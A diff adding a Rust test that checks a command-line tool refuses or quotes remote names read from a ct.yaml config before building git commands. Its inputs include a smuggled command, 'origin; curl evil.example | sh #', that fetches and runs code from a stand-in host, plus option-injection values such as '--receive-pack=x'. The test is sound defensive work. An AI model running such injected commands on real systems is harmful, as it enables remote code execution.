@@ -148,6 +148,24 @@ fn requests_that_cannot_be_met() {
     check(&["--signing-key"], "write `profile: key` into it");
 }
 
+/// What a file of the repository names is no part of a command line before git takes it for a remote.
+#[test]
+fn remotes_are_names() {
+    let test = repository();
+    for remote in ["origin; curl evil.example | sh #", "-x", "--receive-pack=x", "a b"] {
+        write(&test, "ct.yaml", &format!("remote: {remote:?}\n"));
+        let ran = test.chartflow("r", &["init", "--dry-run"]);
+        assert_eq!(ran.exit, Some(0), "{ran}");
+        let commands: Vec<&str> = ran.stdout.lines().filter(|line| line.starts_with("     git ")).collect();
+        assert!(!commands.join("").contains(remote) && commands.contains(&"     git fetch origin"), "{ran}");
+        assert!(ran.stdout.starts_with("ct.yaml:1: remote is not carried over: name of a remote "), "{ran}");
+        assert_eq!(test.chartflow("r", &["init", &format!("--remote={remote}")]).exit, Some(2));
+    }
+    write(&test, "ct.yaml", "remote: a;id\n");
+    let ran = test.chartflow("r", &["init", "--dry-run"]);
+    assert!(ran.stdout.contains("     git fetch 'a;id'\n"), "{ran}");
+}
+
 #[test]
 fn a_copy_of_the_actions_and_calls_of_their_workflows() {
     let test = repository();
